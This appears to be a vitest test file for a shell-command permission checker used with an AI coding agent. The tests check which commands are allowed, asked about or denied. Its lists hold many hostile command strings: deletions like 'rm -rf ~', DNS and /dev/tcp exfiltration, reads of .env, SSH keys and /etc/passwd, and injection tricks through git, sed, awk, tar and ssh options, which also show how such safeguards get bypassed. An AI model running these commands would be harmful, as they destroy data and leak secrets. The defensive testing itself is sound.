// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are shell lines
import { mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { here, verdict, wrong } from './support.ts';

const { root, home } = here;
for (const name of ['a', 'b.ts', 'x.json', 'README.md', 'package.json']) writeFileSync(join(root, name), 'a\n');
for (const name of ['src', 'src/lib', 'dist', 'test']) mkdirSync(join(root, name), { recursive: true });
writeFileSync(join(root, 'src/one.ts'), '');
mkdirSync(join(home, '.ssh'), { recursive: true });
writeFileSync(join(home, '.ssh/id'), 'SECRET');

test('what only looks at the workspace is allowed without a question', async () => {
  const lines = [
    'ls',
    'ls -la',
    'ls -la src test',
    'ls src/*.ts',
    'ls *',
    'pwd',
    'echo hello',
    'echo "a && b"',
    "echo '$(x)'",
    'echo $HOME',
    'true',
    ':',
    'cat a',
    'cat -n a b.ts',
    'cat a | head -5',
    'head -n 20 a',
    'head -20 a',
    'tail -n +5 a',
    'tail -20 a',
    'wc -l src/*.ts',
    'nl a',
    'tac a',
    'cat < a',
    'cat a 2>/dev/null',
    'ls nothere 2>&1 | head -3',
    'cat a > /dev/null',
    'echo x >&2',
    'grep foo a',
    'grep -rn "foo bar" src',
    'grep -E "^(a|b)" a',
    'grep -c . a',
    'grep -i -A3 -B2 foo a',
    'grep -q x a && echo yes || echo no',
    'grep -rl --include="*.ts" foo src',
    'grep -v "^#" a | sort | uniq -c | sort -rn | head',
    'rg foo',
    'rg -n "foo" src -g "*.ts"',
    'rg --files',
    'sed -n 1,5p a',
    "sed -n '1,5p' a",
    "sed 's/a/b/g' a",
    "sed -n '/x/,/y/p' a",
    "sed -e 's/a/b/' -e '2d' a",
    "sed '$d' a",
    "sed 's|a|b|' a",
    "awk '{print $1}' a",
    "awk -F: '/x/ {print $2}' a",
    "awk 'NR==1' a",
    "awk '{s+=$1} END {print s}' a",
    'sort a',
    'sort -u -k2,2n -t: a',
    'uniq -c a',
    'cut -d: -f1 a',
    'tr a-z A-Z < a',
    'diff a b.ts',
    'diff -u a b.ts',
    'diff <(sort a) <(sort b.ts)',
    'cmp a b.ts',
    'find .',
    "find . -name '*.ts' -type f",
    'find src -maxdepth 2 -not -path "*/lib/*" -print',
    "find . -name '*.ts' -exec grep -l foo {} +",
    "find src -type f -name '*.ts' -exec wc -l {} \\;",
    'fd one src',
    'tree -L 2',
    'stat a',
    'file a',
    'du -sh src',
    'df -h',
    'realpath a',
    'basename /x/y',
    'dirname /x/y',
    'git status',
    'git status --short',
    'git log',
    'git log --oneline -5',
    "git log --format='%h %s' -n 3 -- src",
    'git diff',
    'git diff --stat HEAD~1',
    'git diff main...HEAD -- src',
    'git show HEAD',
    'git show HEAD:a',
    'git branch',
    'git branch -a',
    'git branch --list "x*"',
    'git branch --show-current',
    'git tag',
    'git remote -v',
    'git stash list',
    'git blame a',
    'git rev-parse --show-toplevel',
    'git ls-files',
    'git ls-files src | head',
    'git --no-pager log -3',
    'git -C src status',
    'git config --get user.name',
    'git grep -n foo',
    'git describe --tags',
    'git reflog',
    'date',
    'date +%Y',
    'uname -a',
    'whoami',
    'id',
    'hostname',
    'env',
    'which node',
    'command -v node',
    'type ls',
    'nproc',
    'sleep 1',
    'seq 3',
    'printf "%s\\n" a b',
    'expr 1 + 2',
    'node --version',
    'python3 --version',
    'npm --version',
    'npm ls',
    'go version',
    'cargo --version',
    'jq . x.json',
    "jq -r '.name' package.json",
    'jq -n 1',
    'test -f a',
    '[ -d src ]',
    '[ -f a ] && echo yes',
    '[[ -n "$x" ]]',
    '[ "$a" = "$b" ]',
    '[[ $x == b* ]]',
    'if [ -f a ]; then cat a; else echo no; fi',
    'for f in a b; do echo "$f"; done',
    'while read -r l; do echo "$l"; done < a',
    'case $x in a) ls;; *) echo;; esac',
    '(ls; pwd)',
    '{ ls; pwd; }',
    '! grep -q x a',
    "cat <<'E'\n$(touch pwned)\nE",
    'cat <<E\nhello $x\nE',
    "cat <<-'E'\n\tx\n\tE",
    'cat <<< "hi"',
    'NO_COLOR=1 ls',
    'LC_ALL=C sort a',
    'x=1; echo "$x"',
    'files=$(ls); echo "$files"',
    'cd src && ls',
    'cd src && cat one.ts && pwd',
    'cd src; grep foo one.ts',
    'ls # a comment',
    '# only a comment',
    '',
    'ls \\\n  -la',
    'set -e; ls',
    'set -euo pipefail\nls\npwd',
    'echo a & wait',
    'time ls',
    'timeout 5 cat a',
    'nice ls',
    'env LC_ALL=C ls',
    "bash -c 'ls && pwd'",
    "sh -c 'cat a | wc -l'",
    'printf a | xargs echo',
    '/bin/ls',
    '/usr/bin/wc -l a',
    'echo $((1 + 2))',
    'echo ${x:-none} ${#x} ${x%.ts} ${x/a/b}',
    'echo {a,b}',
    'sha256sum a',
    'base64 a',
    'xxd a',
    'od -c a',
    'strings a',
    'column -t a',
    'ls ~+ 2>/dev/null || true',
  ].filter((line) => !line.includes('~+'));
  expect(lines.length).toBeGreaterThan(150);
  expect(await wrong(lines, 'allow')).toEqual([]);
  expect(
    await wrong(
      lines.filter((line) => !line.startsWith('cat <<<')),
      'allow',
      { mode: 'plan' },
    ),
  ).toEqual([]);
});

test('E05 find is read-only only by its arguments', async () => {
  const lines = [
    'find . -exec touch pwned \\;',
    'find . -execdir touch pwned \\;',
    'find . -ok touch pwned \\;',
    'find . -okdir touch pwned \\;',
    'find . -delete',
    'find . -fprint pwned',
    'find . -fprintf pwned x',
    'find . -fls pwned',
    'find . -fprint0 pwned',
    'find . -name a -o -delete',
    'find . "$x"',
    'find . $x',
    'find *',
    'find . -name "$x"',
    "find . -exec sh -c 'touch {}' \\;",
    "find . -exec sh -c 'touch pwned' \\;",
    'find . -exec cat',
    'find / -name x',
    'find -L .. -name x',
    'find -files0-from a',
    'fd -x touch pwned',
    'fd one --exec touch pwned',
    'fd -X rm',
  ];
  expect(await wrong(lines, 'ask')).toEqual([]);
  expect(await wrong(['find . -exec cat {} \\; > a', 'find $x -name y', 'find src -newer /etc/passwd'], 'ask')).toEqual(
    [],
  );
});

test('E05 -exec ends where find ends it, and what it starts reads what find finds', async () => {
  const lines = [
    "find . -maxdepth 0 -exec git branch + feature -d ';'",
    'find . -exec touch pwned + {} \\;',
    'find . -ok cat {} + -delete \\;',
    'x=";"; find . -exec echo "$x" -exec touch pwned \\;',
    'x=";"; find . -exec echo $x -delete \\;',
    'find . -exec echo * -delete \\;',
    'find . -exec echo [;] -delete \\;',
  ];
  expect(await wrong(lines, 'not allow')).toEqual([]);
  const below = join(root, 'found/deep');
  mkdirSync(below, { recursive: true });
  writeFileSync(join(below, '.env'), 'TOPSECRET');
  writeFileSync(join(below, 'two.ts'), '');
  const found = [
    'find found -type f -exec cat {} +',
    'find found -name .env -exec cat {} +',
    "find found -name '.e*' -exec cat {} +",
    "find found -name '*.ts' -o -name '*' -exec cat {} +",
    "find found ! -name '*.ts' -exec cat {} +",
    'find found ! -path -name -type f -exec cat {} +',
    "find found -exec cat {} + -name '*.ts'",
    'find found/deep/.env -exec cat {} +',
  ];
  expect(await wrong(found, 'ask')).toEqual([]);
  expect(await wrong(found.slice(0, 3), 'deny', { deny: ['read_file(**/.env)'] })).toEqual([]);
  const fine = [
    "find found -name '*.ts' -exec grep -l x {} +",
    "find found -path found/x -prune -o -name '*.ts' -exec grep -l x {} \\;",
    'find . -exec git status src/* \\;',
  ];
  expect(await wrong(fine, 'allow')).toEqual([]);
  symlinkSync('/etc/passwd', join(below, 'link.ts'));
  expect(await wrong(fine.slice(0, 2), 'ask')).toEqual([]);
});

test('E06 links are not followed out of the workspace without a question', async () => {
  const lines = [
    'grep -R x .',
    'grep --dereference-recursive x .',
    'rg -L x',
    'rg --follow x',
    'find -L .',
    'find . -follow',
  ];
  const more = [
    'ls -LR',
    'ls -R --dereference',
    'du -L',
    'du --dereference .',
    'tree -l',
    'fd -L x',
    'ls "$x" -L',
    'diff -r a b',
    'du --files0-from=a',
  ];
  expect(await wrong([...lines, ...more], 'ask')).toEqual([]);
  expect(await wrong(['ls -R', 'ls -L', 'du -sh .', 'grep -r x src', 'find . -name x'], 'allow')).toEqual([]);
});

test('E06 git reads only with options that are known', async () => {
  const lines = [
    "git -c core.pager='touch pwned;cat' -p log",
    "git -c alias.x='!touch pwned' x",
    "git grep -O'touch pwned' a",
    'git grep --open-files-in-pager=x a',
    "git -c core.fsmonitor='touch pwned;false' status",
    'git --exec-path=. status',
    "git difftool -x 'touch pwned' -y",
    "git ls-remote 'ext::sh -c touch% pwned'",
    'git fetch --upload-pack=x',
    'git log --ext-diff',
    'git diff --textconv',
    'git show --show-signature',
    'git -p log',
    'git --git-dir=x log',
    'git --work-tree=/ status',
    'git diff --no-index /etc/passwd a',
    'git diff /etc/passwd a',
    'git x',
    'git $x',
    'git log $x',
    'git log "$x"',
    'git -C "$x" log',
    'git -C / log',
    'git cat-file --filters HEAD:a',
    'git cat-file --textconv HEAD:a',
    'git archive HEAD',
    'git bisect run x',
    'git submodule foreach ls',
  ];
  expect(await wrong(lines, 'ask')).toEqual([]);
  expect(await verdict('git log --oneline -5')).toBe('allow');
});

test('E06 git reads its options and paths as git does', async () => {
  writeFileSync(join(root, '.env'), 'TOPSECRET');
  const lines = [
    'git show :0:.env',
    "git show ':(top).env'",
    "git diff -- ':/.env'",
    "git diff ':!a' ':(glob)**/.env'",
    "git show 'HEAD^{/a: b}:.env'",
    "git diff -- '.en?'",
    "git diff -- '*env'",
    'git diff -- :/.en?',
    'git diff -- *env',
    'git log -L1,5:.env',
    'git log -L 1,5:.env',
    'git diff -U .env',
    'git diff --unified .env',
    'git log -p --abbrev .env',
    'git log -M .env',
    'git -C . show :0:.env',
    "git -C . diff '.e*'",
    'git branch --color new',
    'git tag --column new',
    'git --help log',
    'git --help -m log',
    'git help log',
    'git log --help',
    'git --shallow-file x log',
    'git --unknown log',
  ];
  expect(await wrong(lines, 'ask')).toEqual([]);
  expect(await wrong(['cd src && git show HEAD:b.ts'], 'deny', { deny: ['read_file(b.ts)'] })).toEqual([]);
  const fine = [
    'git --version',
    'git --help',
    'git --icase-pathspecs status',
    'git status -uno',
    'git log -U5 -M -C -- src',
    'git log -L1,5:a',
    "git log -- '*.ts'",
    'git diff --abbrev --color-words',
    'git branch --contains HEAD',
  ];
  expect(await wrong(fine, 'allow')).toEqual([]);
  rmSync(join(root, '.env'));
});

test('E07 git commands that change are not read-only', async () => {
  const lines = [
    'git branch -D feature',
    'git branch new',
    'git branch -m a b',
    'git stash drop',
    'git stash',
    'git tag -d v1',
    'git tag v2',
    'git remote remove origin',
    'git remote add x y',
    'git reflog expire --expire=now --all',
    'git config user.name x',
    'git config --unset a.b',
    'git config --global a.b c',
    'git add .',
    'git commit -m x',
    'git worktree add x',
    'git notes add',
    'git update-index a',
    'git symbolic-ref HEAD x',
  ];
  expect(await wrong(lines, 'ask')).toEqual([]);
  expect(await wrong(lines, 'deny', { mode: 'plan' })).toEqual([]);
});

test('E08 options of readers that write', async () => {
  const lines = [
    'git diff --output=pwned',
    'git log --output pwned',
    'sort -o pwned a',
    'sort -opwned a',
    'sort --output=pwned a',
    'sort --outp=pwned a',
    'uniq a pwned',
    'uniq src/*',
    'xxd $x',
    'tree -o pwned',
    'tee pwned',
    'ls | tee pwned',
    'dd of=pwned',
    'curl -o pwned http://x',
    'xxd -r a pwned',
    'xxd a pwned',
    'cp a pwned',
    'shuf -o pwned a',
    'split a',
    'csplit a 1',
    'touch pwned',
    'mkdir x',
    'ln -s a b',
    'date -s 12:00',
    'date 01010000',
    'hostname x',
    'ls > pwned',
    'ls >> pwned',
    'ls >| pwned',
    'ls &> pwned',
    'ls &>> pwned',
    'ls >& pwned',
    'ls 2> pwned',
    '> pwned',
    'exec > pwned',
    'jq . a > a',
    'ls > "$x"',
    'ls > /dev/tcp/1.2.3.4/80',
    'file -C -m x',
  ];
  expect(await wrong(lines, 'not allow')).toEqual([]);
});

test('E08 each program is given its words as it reads them itself', async () => {
  writeFileSync(join(root, '.env'), 'TOPSECRET');
  const lines = [
    'xxd -ps a pwned',
    'xxd a -pwned',
    'xxd -p -ps a pwned',
    'xxd -r a',
    'xxd -l 5 a -l',
    'uniq a -c',
    'tree -Lo 1 out',
    'tree -La1 out',
    'awk 1 -v .env',
    "awk '{print}' -f x",
    'strings @.env',
    'strings @.e*',
    'strings -n @.env a',
    'hexdump -f.env a',
    'hexdump -fcredentials a',
    'hexdump --format-file=.env a',
    'du --fil=.env',
    'du --files0-fr=.env',
    'du --exclude-fr=.env',
    'du -X.env',
    'du -aX .env',
    'grep --color "" .env',
    'diff --unified .env a',
    // Elsewhere the first operand ends the options.
    'head a -n .env',
    "sed 'w pwned' -e p",
    "sed -e p --e 'w pwned' a",
    'grep -e x --f .env a',
    'ls --=x | sort --=x a',
    // What becomes several words brings options along.
    "x='1 -o pwned'; sort -k $x a",
    "x='5 .env'; head -n $x a",
    'sort -k * a',
    'ls --recu --dereferenc',
    'diff --recurs a b',
  ];
  expect(await wrong(lines, 'ask')).toEqual([]);
  const fine = [
    'xxd -l 16 a',
    'xxd -s +5 -l16 a',
    'xxd -ps a',
    'uniq -c a',
    'tree -aL 2',
    'hexdump -C -n 16 a',
    'du -sh --exclude=x src',
    'grep --color x a',
    'diff --unified a b.ts',
    'head a -n 5',
    'head -n "$x" a',
    'sort -k1,1 a',
  ];
  expect(await wrong(fine, 'allow')).toEqual([]);
  rmSync(join(root, '.env'));
});

test('E08 the bare word version is no question, and no stand-in of the folder answers one', async () => {
  const lines = [
    'make version',
    'bash version',
    'node version',
    'python3 version',
    'perl version',
    'curl version',
    'npm version',
    'gcc version',
    'bash -v',
    'bash -V',
    'make -v',
    'kubectl version',
    'yarn --version',
    'pnpm --version',
    'mvn --version',
    'pytest --version',
    'arch rm x',
    'tput init',
  ];
  expect(await wrong(lines, 'ask')).toEqual([]);
  const fine = ['node --version', 'node -v', 'bash --version', 'go version', 'docker version', 'java -version', 'arch'];
  expect(await wrong(fine, 'allow')).toEqual([]);
  expect(await wrong(['cargo --version', 'rustc -V'], 'allow')).toEqual([]);
  writeFileSync(join(root, 'rust-toolchain.toml'), '[toolchain]\npath = "evil"\n');
  expect(await wrong(['cargo --version', 'rustc -V', 'cd src && cargo -V'], 'ask')).toEqual([]);
  expect(await verdict('cargo --version', { sandboxed: true })).toBe('allow');
  rmSync(join(root, 'rust-toolchain.toml'));
});

test('E09 a sed script that is not divided alike by every sed is asked', async () => {
  const lines = [
    "sed 's/[]/]/;s/;e touch pwned #/x/' a",
    "sed 's/[^]/]/;s/;e touch pwned #/x/' a",
    "sed 's/[[:alpha:]/]/;s/;e touch pwned #/x/' a",
    "sed 's/[[.x.]/]/;s/;e touch pwned #/x/' a",
    "sed 's/[[=x=]/]/;s/;e touch pwned #/x/' a",
    "sed 's/[a/]/b/;s/;e #/x/' a",
    "sed 's/[\\\\/]/;e touch pwned #/' a",
    "sed 's/[a\\]/]/;e touch pwned #/' a",
    "sed 's|[]|]|;s|;e touch pwned #|x|' a",
    "sed '/[]/]/p;/;e touch pwned #/p' a",
    "sed 's/[\n/]/;e touch pwned #/' a",
    "sed 's/a\n/b/;e touch pwned' a",
    "sed 's/[/;e touch pwned #/]/' a",
  ];
  expect(await wrong(lines, 'ask')).toEqual([]);
  const fine = [
    "sed 's/[[:space:]]*$//' a",
    "sed 's/[^\\/]*$//' a",
    "sed 's|[a-z]*|x|g' a",
    "sed -n '/[0-9]/p; $!d' a",
    "sed -n '/^a/,/^b/p\n2q' a",
    "sed '' a",
  ];
  expect(await wrong(fine, 'allow')).toEqual([]);
});

test('E09 a jq program loads no files', async () => {
  const lines = [
    'jq -n \'import "credentials" as $d {search:"./"}; $d\'',
    'jq -n \'include "x"; .\'',
    'jq \'"x" | modulemeta\' x.json',
    "jq 'input_filename' x.json",
    'jq -L . . x.json',
    'jq -f p.jq x.json',
    'jq --from-file p.jq x.json',
    'jq -nf .env',
  ];
  expect(await wrong(lines, 'ask')).toEqual([]);
  expect(await wrong(["jq '.important, .includes' x.json", 'jq -n 1'], 'allow')).toEqual([]);
});

test('E09 sed and awk scripts', async () => {
  const lines = [
    "sed '1e touch pwned' a",
    "sed -n 'w pwned' a",
    "sed 's/a/touch pwned/e' a",
    "sed 's/a/b/w pwned' a",
    'sed -i s/a/b/ a',
    'sed -i.bak s/a/b/ a',
    'sed --in-place s/a/b/ a',
    'sed -f x.sed a',
    'sed e a',
    "sed 'r /etc/passwd' a",
    "sed -n 's/[/]/x/e;s/a/b/' a",
    "sed 's/x/y/;e' a",
    "sed '/a/{e\n}' a",
    'sed "$x" a',
    "sed '1!e' a",
    "sed 's/a/b/ge' a",
    "sed 'W pwned' a",
    'sed -n -e p -e e a',
    'sed --expression=e a',
    'sed --expr=e a',
    'awk \'BEGIN{system("touch pwned")}\'',
    'awk \'{print > "pwned"}\' a',
    'awk \'{print | "sh"}\' a',
    'awk \'{"touch pwned" | getline}\' a',
    'awk -f x.awk a',
    "gawk -i inplace '{print}' a",
    'awk \'@load "x"\' a',
    'awk \'BEGIN{f="system";@f("ls")}\'',
    'awk -v \'x=1\' "$y" a',
  ];
  expect(await wrong(lines, 'ask')).toEqual([]);
  expect(await verdict('sed -n 1,5p a')).toBe('allow');
});

test('E10 options that name a helper program', async () => {
  const lines = [
    'rg --pre ./x.sh a',
    'rg --pre=./x.sh a',
    'rg -z a',
    'rg --hostname-bin x a',
    'sort -S1 --compress-program=./x.sh a',
    'sort --compress-prog=./x.sh a',
    'sort -T /etc a',
    'tar xf a.tar --to-command=./x.sh',
    'man -P ./x.sh ls',
    'less +!x a',
    'less a',
    'more a',
    'diff -l a b.ts',
    'split --filter=x a',
    'zip -T -TT x a',
    'vim -c "!x" a',
    'ls | xargs -a x touch',
  ];
  expect(await wrong(lines, 'ask')).toEqual([]);
});

test('E13 archives and remote shells are never in the automatic list', async () => {
  writeFileSync(join(root, '--checkpoint=1'), '');
  const lines = [
    "tar cf /dev/null --checkpoint=1 --checkpoint-action=exec='touch pwned' a",
    'tar cf b.tar *',
    "rsync -e 'touch pwned' a h:",
    "ssh -o ProxyCommand='touch pwned' h",
    'zip x a',
    'unzip x',
    'scp a h:',
    // A file name that is an option.
    'sort *',
    'uniq *',
    'find *',
  ];
  expect(await wrong(lines, 'ask')).toEqual([]);
  expect(await verdict('cat *')).toBe('allow');
});

test('E16 no program that talks to the network is allowed by default', async () => {
  expect(
    await wrong(
      [
        'nslookup $(head -c 8 a | xxd -p).x.test',
        'dig x',
        'host x',
        'ping x',
        'curl x',
        'wget x',
        'nc x 1',
        'ssh x',
        'git fetch',
        'git ls-remote',
        'git pull',
        'npm view x',
      ],
      'ask',
    ),
  ).toEqual([]);
});

test('E14 what can not be brought back is asked in every mode but bypass', async () => {
  const auto = { mode: 'auto', sandboxed: true, allow: ['bash'] } as const;
  const lines = [
    'rm -rf ~',
    'rm -rf "$HOME"/',
    'rm -r -f -- ../..',
    'cd / && rm -rf ./*',
    'D=; rm -rf "$D"/*',
    'find ~ -delete',
    `rm --recursive --force ${home}`,
    `mv ${home} /tmp/x`,
    'mv ~ /tmp/x',
    'rm -rf .',
    'rm -rf *',
    'rm -rf src',
    'rm -fr src/lib',
    'rm -R src',
    'rm *',
    'rm -rf dist/../src',
    'rm -rf dist src',
    "sh -c 'rm -rf src'",
    'sudo rm -rf /',
    'ls | xargs rm',
    'find . -exec rm {} +',
    'find . -name x -delete',
    'env rm -rf src',
    '\\rm -rf src',
    'cd src && rm -rf lib',
    'git reset --hard',
    'git reset --hard HEAD~3',
    'git -C . reset --hard',
    'git clean -fd',
    'git checkout -- a',
    'git checkout .',
    'git checkout -f main',
    'git restore a',
    'git push --force',
    'git push -f origin main',
    'git push --force-with-lease',
    'git push origin +main',
    'git push origin :main',
    'git push --delete origin x',
    'git branch -D x',
    'git stash drop',
    'git stash clear',
    'git reflog expire --all',
    'git filter-branch x',
    'git gc --prune=now',
    'git update-ref -d x',
    'git tag -d v1',
    'git --shallow-file /dev/null reset --hard',
    'git --attr-source HEAD reset --hard',
    'git --unknown x reset --hard',
    "git -c alias.x='reset --hard' x",
    'git -c $x status',
    'git "$x"',
    'git reset --har',
    'git checkout HEAD a',
    'git checkout a',
    'git checkout src',
    'cd src && git checkout one.ts',
    "git checkout 'src/*'",
    'git checkout :/a',
    'git checkout --forc main',
    'git restore --staged --work a',
    'git restore -sS a',
    'git clean -fd -e n',
    'git clean -fden',
    'git push --forc',
    'git push --mir',
    'git branch -f x y',
    'git branch -C x y',
    'git read-tree -u --reset HEAD',
    'git checkout-index -fa',
    'chmod --recurs 777 .',
    'rsync -a --del x y',
    "dd 'of=a'",
    'dd if=/dev/zero of=a',
    'mkfs.ext4 /dev/sda',
    'truncate -s 0 a',
    'shred a',
    'chmod -R 777 .',
    'chown -R x .',
    'shutdown now',
    'docker system prune -f',
    'kubectl delete pod x',
    'terraform destroy',
    'pkill node',
    '$(echo rm) -rf src',
    'eval "$x"; rm -rf src',
  ];
  expect(await wrong(lines, 'ask', auto)).toEqual([]);
  expect(await wrong(lines, 'allow', { mode: 'bypass' })).toEqual([]);
  const fine = [
    'rm -rf dist',
    'rm -rf node_modules dist',
    'rm a',
    'rm -f src/one.ts',
    'rm -rf ./dist/*',
    'git reset',
    'git reset HEAD~1',
    'git clean -n',
    'git checkout main',
    'git checkout -b x',
    'git checkout -b src origin/main',
    'git --no-pager checkout main',
    'git --attr-source HEAD status',
    'git clean -nfd',
    'git restore --staged a',
    'git push',
    'git push origin main',
    'git branch -d x',
    'git stash pop',
    'git stash',
    'mv a b',
    'mv src lib2',
    'chmod +x a',
    'npm test',
    'python3 x.py',
    'truncate -s 0 dist/a',
  ];
  expect(await wrong(fine, 'allow', auto)).toEqual([]);
});

test('E15 E23 E25 reads by any program are judged on real paths', async () => {
  writeFileSync(join(root, '.env'), 'TOPSECRET');
  symlinkSync(join(home, '.ssh/id'), join(root, 'l'));
  symlinkSync(home, join(root, 'd'));
  const deny = { deny: ['read_file(**/.env)'] };
  const denied = [
    'cat .env',
    'grep "" .env',
    'git show :.env',
    'git show HEAD:.env',
    'cat .e*',
    'cat < .env',
    'tar cO .env',
    'cp .env x',
    'head -5 ./.env',
    'cat src/../.env',
    'cd src && cat ../.env',
    'cat --number .env',
    'grep -f .env a',
    'grep --file=.env a',
    'diff .env a',
    'cat $(echo .env)',
    'python3 -c "print(open(\'.env\').read())"',
    'grep -r TOP .',
    'grep -r TOP',
    'diff -r . src',
    'rg --hidden TOP',
    'git blame .env',
    'wc --files0-from=.env',
    'cat "$x"',
    "rg -g '.*' TOP",
    'rg --glob=.env TOP',
    "rg -ng '*' TOP",
    'cat .en[[:alpha:]]',
    'cat .en[!]a]',
    'cat .en[^]a]',
    'cat .en[]v]',
    'cat .en[[.v.]]',
    'cat .en[[=v=]]',
    'cat .en[a\\]v]',
    'cat .en["]"v]',
    'cat .e[[:alpha:]]v',
    'cat < .en[[:alpha:]]',
    'cat src/../.en[!]a]',
  ];
  expect(await wrong(denied, 'not allow', deny)).toEqual([]);
  expect(await wrong(denied.slice(0, 12), 'deny', deny)).toEqual([]);
  expect(await wrong(denied.slice(-11), 'deny', deny)).toEqual([]);
  expect(await wrong(["rg -g '*.ts' x", "rg -g '!dist' x src", 'cat src/[a-z]*.ts'], 'allow')).toEqual([]);
  // Without a rule such files are asked.
  expect(
    await wrong(
      denied.filter((line) => !line.startsWith('wc')),
      'ask',
    ),
  ).toEqual([]);
  const outside = [
    'cat l',
    'cat d/.ssh/id',
    'cat l*',
    'cat d/*',
    'ls d/',
    'cat /etc/passwd',
    'cat ../x',
    'ls ..',
    'ls ~',
    'grep x ~/.bashrc',
    'cd .. && ls',
    'cd d && cat x',
    'find d/.ssh/..',
    'cat < /etc/passwd',
    'grep -r x /etc',
    'wc -l ../*',
    'head -n1 -- /etc/hosts',
    `ls ${root}-evil`,
    `cat ${root}-evil/x`,
    `cat ${root}/../app-evil/x`,
    'cat ./../x',
    'cd a/b/.. && cat ../../x',
    'cat src/*/../../../x',
    'while true; do cd ..; cat x; done',
    'cd .. && cd .. && cat x',
    'cd; cat x',
    'cd - && cat x',
    'diff a /etc/passwd',
    'git diff a ../x',
    'sed -n 1p /etc/passwd',
    "awk '{print}' /etc/passwd",
    'jq -f /etc/passwd a',
    // `cd` takes `..` out of the words, the system follows the link first.
    'cd d/../src && cat one.ts',
    'cd d/../x && ls',
  ];
  expect(await wrong(outside, 'ask')).toEqual([]);
  symlinkSync(join(root, 'src/lib'), join(root, 'in'));
  expect(await wrong(['cd in/.. && cat x'], 'allow')).toEqual([]);
  expect(
    await wrong(['cd in/.. && cat .env', 'cd in/.. && cat ./a'], 'deny', { deny: ['read_file(.env)', 'read_file(a)'] }),
  ).toEqual([]);
});
